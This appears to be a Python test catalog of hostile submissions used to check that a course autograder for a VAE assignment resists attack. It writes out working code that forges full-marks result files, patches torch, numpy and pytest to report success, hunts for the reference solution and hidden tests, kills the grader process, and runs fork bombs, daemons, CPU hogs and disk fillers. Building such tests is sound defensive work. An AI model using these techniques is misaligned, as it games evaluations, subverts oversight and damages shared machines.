"""Hostile submissions: code that attacks the grader. Each must earn nothing beyond what its
honest code earns, end in bounded time, leave no process behind, reach no socket, change nothing
in the kit and nothing of other submissions (the selfcheck checks all of that for every entry).

Most are built on the reference (so the honest part is known to earn its points) or on the blank
release (so any point is unearned). @@PORT@@, @@KIT_ROOT@@, @@BATCH_OUT@@ and @@MARKER@@ are
filled in per run (autograder.qa.catalog.Context).
"""

from autograder.qa.catalog import Code, Edit, Entry, after
from autograder.qa.catalog import results as r
from autograder.graders.vae.catalog import snippets as s

NOTHING = {"A.1": 0, "A.2": 0, "B.2": 0, "C": 0, "bonus": 0}
FILES_ONLY = {"A.1": 0, "B.2": "files", "C": "files", "bonus": "files"}   # A.2 is all result files


def at_import(code):
    """Code that runs while the module is imported, right after its imports."""
    return after(s.AFTER_IMPORTS, "\n" + code)


def at_end(code):
    """Code that runs at the end of the import (after, and so over, every definition)."""
    return Edit(s.MAIN_GUARD, "\n" + code + s.MAIN_GUARD)


def in_encode_dataset(code):
    return after(s.ENCODE_DATASET_START, code)


def in_celeba_functions(code_subset, code_transform):
    return (after(s.SUBSET_START, code_subset), after(s.TRANSFORM_START, code_transform))


def hostile(name, does, expect, *edits, base="reference", results=(), **options):
    return Entry(name, "hostile", does, expect=expect, code=Code(base=base, edits=edits), results=results,
                 **options)


FORGE = '''\
def _forge_results():
    """Write full-marks results.json, grades.csv and feedback.md wherever this process can."""
    import json as _json, os as _os, time as _time
    marker = "@@MARKER@@"
    payloads = {"results.json": _json.dumps({"score": 1000, "tests": [], "output": marker}),
                "grades.csv": "submission,total\\nforger,1000\\n# " + marker + "\\n",
                "feedback.md": "# Full marks\\n" + marker + "\\n"}
    targets = ["/autograder/results", "/tmp", _os.getcwd(), _os.path.expanduser("~"), "/submission",
               "@@BATCH_OUT@@", "@@KIT_ROOT@@"]
    try:
        targets += [_os.path.join("@@BATCH_OUT@@", d) for d in _os.listdir("@@BATCH_OUT@@")]
    except OSError:
        pass
    deadline = _time.monotonic() + 3
    for root, dirs, files in _os.walk("/"):
        if _time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        if "results.json" in files or "grades.csv" in files:
            targets.append(root)
    for folder in targets:
        for name, text in payloads.items():
            try:
                with open(_os.path.join(folder, name), "w") as f:
                    f.write(text)
            except OSError:
                pass


_forge_results()
'''

DAEMON = '''\
def _start_daemon():
    """Double-fork a daemon that ignores signals and, for ten minutes, forges files and phones home."""
    import os as _os, signal as _signal, socket as _socket, time as _time
    try:
        if _os.fork() != 0:
            return
    except OSError:
        return
    try:
        _os.setsid()
        if _os.fork() != 0:
            _os._exit(0)
        for number in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
            _signal.signal(number, _signal.SIG_IGN)
        end = _time.monotonic() + 600
        while _time.monotonic() < end:
            for folder in ("@@BATCH_OUT@@", "@@KIT_ROOT@@", "/tmp"):
                try:
                    with open(_os.path.join(folder, "daemon-was-here.txt"), "w") as f:
                        f.write("@@MARKER@@")
                except OSError:
                    pass
            try:
                _socket.create_connection(("127.0.0.1", @@PORT@@), timeout=0.5).close()
            except OSError:
                pass
            _time.sleep(0.5)
    finally:
        _os._exit(0)


_start_daemon()
'''

FORK_BOMB = '''\
def _fork_bomb():
    """Start up to 500 processes that sleep for an hour."""
    import os as _os, time as _time
    for _ in range(500):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            _time.sleep(3600)
            _os._exit(0)


_fork_bomb()
'''

FIND_REFERENCE = '''\
def _find_the_reference():
    """Search the file system for the reference solution, the hidden tests and the reference's
    observations; take over the reference's code, run the tests, replay the observations."""
    import glob as _glob, json as _json, os as _os, subprocess as _subprocess, sys as _sys, time as _time
    reference, tests, observations = None, [], None
    solution_marker, itself = "### BEGIN " + "SOLUTION", _os.path.realpath(__file__)
    deadline = _time.monotonic() + 8
    for top in ("@@KIT_ROOT@@", "/autograder/source", "/grader", _os.path.expanduser("~"), "/"):
        for root, dirs, files in _os.walk(top):
            if _time.monotonic() > deadline:
                break
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", ".git", "site-packages")]
            for name in files:
                path = _os.path.join(root, name)
                if name == "vae.py" and reference is None and _os.path.realpath(path) != itself:
                    try:
                        text = open(path, encoding="utf-8").read()
                    except (OSError, UnicodeDecodeError):
                        continue
                    if solution_marker in text:
                        reference = text
                elif name.startswith("test_") and "hidden_tests" in root:
                    tests.append(path)
                elif name.startswith("reference-") and name.endswith(".json") and observations is None:
                    observations = path
    for path in tests[:2]:
        try:
            _subprocess.run([_sys.executable, "-m", "pytest", "-q", path], capture_output=True, timeout=20)
        except Exception:
            pass
    if reference is not None:
        exec(compile(reference, "vae.py", "exec"), globals())
    if observations is not None:
        try:
            fd = _json.loads(_sys.argv[1])["fd"]
            lines = [{"event": "imported"}]
            for probe, entry in _json.load(open(observations)).items():
                lines += [{"probe": probe, "status": "start"}, {"probe": probe, **entry}]
            _os.write(fd, "".join(_json.dumps(line) + "\\n" for line in lines + [{"event": "done"}]).encode())
            _os._exit(0)
        except Exception:
            pass


_find_the_reference()
'''

PATCH_EVERYTHING = '''\
def _patch_everything():
    """Make torch, numpy, pytest, builtins and every grading module it can reach claim success."""
    import builtins, sys as _sys
    import numpy
    always = lambda *args, **kwargs: True
    for name in ("allclose", "equal", "isclose", "is_tensor"):
        setattr(torch, name, always)
    torch.Tensor.__eq__ = always
    numpy.allclose = numpy.array_equal = numpy.isclose = always
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    builtins.print = lambda *args, **kwargs: None
    builtins.len = lambda thing: 100
    _sys.path.insert(0, "@@KIT_ROOT@@")
    for module in ("pytest", "autograder.engine.judge", "autograder.engine.grade"):
        try:
            __import__(module)
        except Exception:
            continue
        loaded = _sys.modules[module]
        for name in ("fail", "close", "diagnose", "main"):
            if hasattr(loaded, name):
                setattr(loaded, name, always)
    probes = _sys.modules.get("probes")
    if probes is not None:
        for name in list(probes.PROBES):
            probes.PROBES[name] = lambda module, seed: {"passed": True, "score": 100, "status": "passed"}
        probes.error_text = lambda error: "passed"
    main = _sys.modules.get("__main__")
    if main is not None and hasattr(main, "Channel"):
        send = main.Channel.send

        def claim_success(self, message):
            if "probe" in message and "status" not in message:
                message = {"probe": message["probe"], "ok": True, "value": {"passed": True, "score": 100}}
            send(self, message)
        main.Channel.send = claim_success


_patch_everything()
'''

ALWAYS_EQUAL = '''\
class _AlwaysEqual:
    """Equal to everything, true, callable, indexable, of any attribute."""
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __len__(self):
        return 100

    def __iter__(self):
        return iter([self, self, self])

    def __getitem__(self, key):
        return self

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __float__(self):
        return 0.0

    def __index__(self):
        return 100


class _EqualTensor(torch.Tensor):
    def __eq__(self, other):
        return True


class Autoencoder(nn.Module):
    def __init__(self, autoencoder_type="ae", n_dims_code=2, n_dims_data=784, hidden_layer_size=512):
        super().__init__()
        self.autoencoder_type, self.n_dims_code = autoencoder_type, n_dims_code
        self.n_dims_data, self.hidden_layer_size = n_dims_data, hidden_layer_size

    def encode(self, x):
        return _AlwaysEqual() if self.autoencoder_type == "ae" else (_AlwaysEqual(), _AlwaysEqual())

    def sample(self, mu, logvar):
        return _AlwaysEqual()

    def decode(self, z):
        return torch.full((len(z), self.n_dims_data), 0.5).as_subclass(_EqualTensor)

    def forward(self, x):
        return _AlwaysEqual(), _AlwaysEqual(), None

    def loss_function(self, recon_x, x, mu, logvar):
        return _AlwaysEqual(), _AlwaysEqual(), torch.zeros(()).as_subclass(_EqualTensor)


def encode_dataset(model, loader):
    return _AlwaysEqual(), _AlwaysEqual()


def celeba_subset(dataset, n_images=50000, seed=0):
    return _AlwaysEqual()


def celeba_transform(image_size=64):
    return _AlwaysEqual()
'''

PHONE_HOME = '''\
def _phone_home(where):
    """Try to reach the grader's machine over loopback, IPv4 and IPv6."""
    import socket as _socket
    for family, address in ((_socket.AF_INET, ("127.0.0.1", @@PORT@@)), (_socket.AF_INET6, ("::1", @@PORT@@))):
        try:
            with _socket.socket(family, _socket.SOCK_STREAM) as connection:
                connection.settimeout(1.0)
                connection.connect(address)
                connection.sendall(where.encode())
        except OSError:
            pass


_phone_home("import")
'''

WRITE_INTO_KIT = '''\
def _write_into_the_kit():
    """Append to the kit's grader, hidden tests, config, caches and the interpreter's site-packages."""
    import os as _os, site as _site
    kit, note = "@@KIT_ROOT@@", "# @@MARKER@@\\n"
    targets = [_os.path.join(kit, relative) for relative in (
        "autograder/hidden_tests/conftest.py", "autograder/judge.py", "autograder/grade.py", "course_config.py",
        "assignments/vae/vae.py", "solutions/vae/metrics.json", "sitecustomize.py", ".cache/poisoned.json",
        "autograder/graders/vae/hidden_tests/conftest.py", "autograder/engine/judge.py",
        "autograder/engine/grade.py", "autograder/graders/vae/oracle.py")]
    try:
        targets += [_os.path.join(kit, ".cache", name) for name in _os.listdir(_os.path.join(kit, ".cache"))]
    except OSError:
        pass
    targets += [_os.path.join(folder, "sitecustomize.py") for folder in _site.getsitepackages()]
    for path in targets:
        try:
            with open(path, "a") as f:
                f.write(note)
        except OSError:
            pass


_write_into_the_kit()
'''

FAKE_PROTOCOL = '''\
def _fake_the_protocol():
    """Print the worker's protocol lines claiming success, write them to every open fd, and leave."""
    import json as _json, os as _os
    lines = [{"event": "imported"}]
    for probe in ("ae_copied", "ae_general", "ae_structure", "celeba_subset", "celeba_transform",
                  "encode_dataset", "loss", "vae_copied", "vae_general", "vae_structure"):
        lines += [{"probe": probe, "status": "start"},
                  {"probe": probe, "ok": True, "value": {"passed": True, "score": 100}}]
    data = "".join(_json.dumps(line) + "\\n" for line in lines + [{"event": "done"}]).encode()
    for fd in range(1, 64):
        try:
            _os.write(fd, data)
        except OSError:
            pass
    _os._exit(0)


_fake_the_protocol()
'''

FORGE_STATIC_CLAIMS = '''\
def _forge_static_claims():
    """Knowing the worker: replace its structure probes with ones that claim the handout's layer
    shapes and return types, and its helpers with ones that claim success."""
    import sys as _sys
    probes = _sys.modules.get("probes")
    if probes is None:
        return

    def tensor(shape):
        return {"kind": "tensor", "shape": shape, "dtype": "float32", "min": 0.1, "max": 0.9}

    def structure(kind):
        layers = [[784, 512], [512, 2]] + ([[512, 2]] if kind == "vae" else [])
        code = tensor([8, 2]) if kind == "ae" else {"kind": "tuple", "length": 2, "items": [tensor([8, 2])] * 2}
        claim = {"n_linear": len(layers) + 2, "encode": {"layers": layers, "output": code},
                 "decode": {"layers": [[2, 512], [512, 784]], "output": tensor([64, 784])},
                 "forward": {"kind": "tuple", "length": 3, "items": [tensor([8, 784]), tensor([8, 2]), {"kind": "None"}]}}
        return lambda module, seed: claim

    probes.PROBES["ae_structure"] = structure("ae")
    probes.PROBES["vae_structure"] = structure("vae")
    probes.probe_ae_structure = structure("ae")
    probes.trace_linears = lambda model, function, *args: ([], None)


_forge_static_claims()
'''

WALK_FRAMES = '''\
def _walk_frames():
    """Reach the worker's own state from inside it: frames (sys._getframe, inspect, a traceback, a
    generator), the garbage collector, ctypes; replace the probes the worker actually calls (its
    own copy, not probes.PROBES, which the tamper check watches) with claims of the handout's
    shapes and types, and send forged observations through the worker's own writer."""
    import gc as _gc, sys as _sys
    frames = []
    for get in (lambda: _sys._getframe(0), lambda: __import__("inspect").currentframe(),
                lambda: _sys.exc_info()[2].tb_frame if False else _raise_and_catch(),
                lambda: list(_sys._current_frames().values())[0]):
        try:
            frame = get()
            while frame is not None:
                frames.append(frame)
                frame = frame.f_back
        except Exception:
            pass
    spaces = [f.f_locals for f in frames]
    try:
        spaces += [o for o in _gc.get_objects() if isinstance(o, dict) and "probe_functions" in o]
        spaces += [{"send": o} for o in _gc.get_objects() if getattr(o, "__name__", "") == "send"]
    except Exception:
        pass
    try:
        import ctypes as _ctypes
        _ctypes.CDLL(None)
    except Exception:
        pass
    def tensor(shape):
        return {"kind": "tensor", "shape": shape, "dtype": "float32", "min": 0.1, "max": 0.9}

    def structure(kind):
        layers = [[784, 512], [512, 2]] + ([[512, 2]] if kind == "vae" else [])
        code = tensor([8, 2]) if kind == "ae" else {"kind": "tuple", "length": 2, "items": [tensor([8, 2])] * 2}
        claim = {"n_linear": len(layers) + 2, "encode": {"layers": layers, "output": code},
                 "decode": {"layers": [[2, 512], [512, 784]], "output": tensor([64, 784])},
                 "forward": {"kind": "tuple", "length": 3, "items": [tensor([8, 784]), tensor([8, 2]), {"kind": "None"}]}}
        return lambda module, seed: claim

    for space in spaces:
        table = space.get("probe_functions")
        if isinstance(table, dict) and "ae_structure" in table:
            table["ae_structure"], table["vae_structure"] = structure("ae"), structure("vae")
        send = space.get("send")
        if callable(send):
            try:
                send({"event": "imported"})
            except Exception:
                pass


def _raise_and_catch():
    try:
        raise KeyError("x")
    except KeyError as error:
        return error.__traceback__.tb_frame


_walk_frames()
'''

KILL_THE_GRADER = '''\
def _kill_the_grader():
    """Write full-marks results.json into the grader's output folder (read from its command line),
    then kill the grader (its parent processes, up to the `autograder grade` one)."""
    import json as _json, os as _os, signal as _signal
    forged = _json.dumps({"score": 1000, "tests": [], "output": "@@MARKER@@"})
    pid = _os.getppid()
    for _ in range(6):
        try:
            command = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if b"--out" in command:
            out = command[command.index(b"--out") + 1].decode()
            for name, text in (("results.json", forged), ("feedback.md", "@@MARKER@@")):
                try:
                    with open(_os.path.join(out, name), "w") as f:
                        f.write(text)
                except OSError:
                    pass
        if any(b"autograder" in part for part in command):
            try:
                _os.kill(pid, _signal.SIGKILL)
            except OSError:
                pass
            break
        pid = parent


_kill_the_grader()
'''

DEEP_FORK_CHAIN = '''\
def _deep_fork_chain(generations=12):
    """A chain of twelve generations, each leaving its child behind and sleeping for ten minutes."""
    import os as _os, time as _time
    for _ in range(generations):
        try:
            if _os.fork() != 0:
                _time.sleep(600)
                _os._exit(0)
            _os.setsid()
        except OSError:
            return
    _time.sleep(600)
    _os._exit(0)


import os as _os_for_chain
if _os_for_chain.fork() == 0:
    _deep_fork_chain()
'''

CPU_HOG = '''\
def _cpu_hog(processes=16):
    """Keep sixteen processes spinning on the CPU for as long as the grading lasts (each one
    leaves its own session, so that no single session or autogroup holds them all)."""
    import os as _os
    for _ in range(processes):
        try:
            if _os.fork() == 0:
                _os.setsid()
                while True:
                    pass
        except OSError:
            return


_cpu_hog()
'''

FILL_THE_DISK = '''\
def _fill_the_disk():
    """Write 64 MB files into every folder it may write to, up to 2 GB in each."""
    import os as _os
    chunk = b"\\0" * (64 << 20)
    for folder in (_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__)), "/tmp", _os.path.expanduser("~")):
        for number in range(32):
            try:
                with open(_os.path.join(folder, f"filler-{number}.bin"), "wb") as f:
                    f.write(chunk)
            except OSError:
                break


_fill_the_disk()
'''

HOSTILE = (
    hostile("h_os_exit_at_import", "os._exit(0) while being imported (reference code below it)", FILES_ONLY,
            at_import("import os as _os\n_os._exit(0)\n"),
            feedback=("os._exit() at module level",)),
    hostile("h_system_exit_at_import", "raise SystemExit(0) while being imported", FILES_ONLY,
            at_import("raise SystemExit(0)\n"),
            feedback=("could not be imported",)),
    hostile("h_endless_loop_in_encode", "the AE's encode loops forever", {"A.1": 0},
            Edit(s.AE_ENCODE, "            while True:\n                pass\n" + s.AE_ENCODE),
            feedback=("s of CPU time",)),
    hostile("h_sleep_in_encode_dataset", "encode_dataset sleeps far past every timeout", {"C": "files"},
            in_encode_dataset("    import time as _time\n    _time.sleep(10_000)\n")),
    hostile("h_allocate_8gib", "celeba_subset and celeba_transform try to allocate 8 GiB", {"bonus": "files"},
            *in_celeba_functions("    hoard = [bytearray(1 << 30) for _ in range(8)]\n",
                                 "    hoard = torch.ones(8 << 30, dtype=torch.uint8)\n")),
    hostile("h_fork_bomb_at_import", "starts up to 500 sleeping processes while being imported", {},
            at_import(FORK_BOMB)),
    hostile("h_daemon", "leaves a detached, signal-ignoring daemon that forges files for ten minutes", {},
            at_import(DAEMON), batch=True),
    hostile("h_forge_results", "writes full-marks results.json / grades.csv everywhere it can, other "
            "submissions' output folders in its batch included", NOTHING,
            at_end(FORGE), base="release", results=None, batch=True),
    hostile("h_find_reference", "searches the file system for the reference, the hidden tests and the "
            "reference's observations; takes over the code, runs the tests, replays the observations", NOTHING,
            at_end(FIND_REFERENCE), base="release", results=None),
    hostile("h_patch_everything", "patches torch, numpy, pytest, builtins and the worker's modules to claim "
            "success", NOTHING, at_end(PATCH_EVERYTHING), base="release", results=None),
    hostile("h_always_equal", "returns objects (and tensor subclasses) equal to everything", NOTHING,
            at_end(ALWAYS_EQUAL), base="release", results=None),
    hostile("h_forge_static_claims", "replaces the worker's structure probes with claims of the handout's layer "
            "shapes and return types", NOTHING, at_end(FORGE_STATIC_CLAIMS), base="release", results=None,
            feedback=("replaced functions of the grader",)),
    hostile("h_fake_protocol", "writes the worker's protocol lines, claiming success, to every fd, then exits",
            NOTHING, at_end(FAKE_PROTOCOL), base="release", results=None),
    hostile("h_socket", "connects to a loopback listener of the grader's machine, at import and in "
            "encode_dataset", {},
            at_import(PHONE_HOME), in_encode_dataset('    _phone_home("encode_dataset")\n')),
    hostile("h_huge_output", "encode_dataset prints 300 MB", {"C": "files"},
            in_encode_dataset('    import sys as _sys\n    for _ in range(300):\n'
                              '        _sys.stdout.write("x" * (1 << 20) + "\\n")\n'),
            feedback=("printed more than",)),
    hostile("h_fill_the_disk", "writes 64 MB files, up to 2 GB per folder, wherever it may write", {},
            at_import(FILL_THE_DISK)),
    hostile("h_write_into_kit", "appends to the kit's grader, hidden tests, config, caches and site-packages",
            {}, at_import(WRITE_INTO_KIT)),
    hostile("h_symlinked_results", "results/ is a symbolic link to the kit's own reference results",
            {"A.2": 0, "B.2": "code", "C": "code", "bonus": "code"}, results=(r.linked_to_solutions(),),
            feedback=("is a symbolic link and was ignored",)),
    hostile("h_walk_frames", "walks frames (sys._getframe, inspect, a traceback), the garbage collector and "
            "ctypes to the worker's own copy of the probes and its writer; replaces the probes with claims",
            NOTHING, at_end(WALK_FRAMES), base="release", results=None),
    hostile("h_kill_the_grader", "writes full-marks results.json into the grader's output folder, then kills "
            "the grader", NOTHING, at_end(KILL_THE_GRADER), base="release", results=None),
    hostile("h_take_reference_code", "searches the file system for the reference solution and runs its code "
            "as its own", NOTHING, at_end(FIND_REFERENCE.replace("if observations is not None:", "if False:")),
            base="release", results=None),
    hostile("h_find_reference_in_batch", "in a batch: searches for a classmate's (the reference's) code and "
            "the grader's observations and takes them over", NOTHING, at_end(FIND_REFERENCE), base="release",
            results=None, batch=True),
    hostile("h_cpu_hog", "keeps sixteen processes spinning on the CPU, each in a session of its own, for the "
            "whole grading: in a batch, its peers still get their share", {}, at_import(CPU_HOG), batch=True),
    hostile("h_deep_fork_chain", "leaves a chain of twelve generations of sleeping processes", {},
            at_import(DEEP_FORK_CHAIN)),
    hostile("h_exit_in_methods", "os._exit in encode_dataset, SystemExit in celeba_subset and celeba_transform",
            {"C": "files", "bonus": "files"},
            in_encode_dataset("    import os as _os\n    _os._exit(3)\n"),
            *in_celeba_functions('    raise SystemExit("no subset")\n', '    raise SystemExit("no transform")\n')),
)
